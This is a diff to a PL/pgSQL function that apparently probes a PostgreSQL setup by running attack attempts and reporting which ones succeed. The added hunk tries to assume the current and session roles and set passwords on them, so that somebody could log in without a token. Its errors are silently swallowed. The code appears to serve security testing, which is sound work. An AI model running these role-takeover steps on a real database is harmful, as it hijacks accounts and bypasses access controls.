@@ -16,6 +16,7 @@ declare
     rule record;
     holds boolean;
     heard text;
+    shared name;
 begin
     execute 'select ' || who into me;
     if me is null then
@@ -110,6 +111,22 @@ begin
     exception when others then
         null;
     end;
+
+    -- With a password somebody gets in without a token, and may then say who they are.
+    for shared in select distinct unnest(array[current_user, session_user]) loop
+        begin
+            execute format('set local role %I', shared);
+            execute format('alter role %I password %L', shared, gen_random_uuid());
+            if exists (
+                select from pg_roles
+                where rolname = shared and rolcanlogin and coalesce(rolvaliduntil, 'infinity') > now()
+            ) then
+                successes := successes || jsonb_build_array(format('give %s, the role of everybody, a password', shared));
+            end if;
+        exception when others then
+            null;
+        end;
+    end loop;
 
     raise exception using errcode = 'RW000', message = 'the attack is over', detail = successes::text;
 end
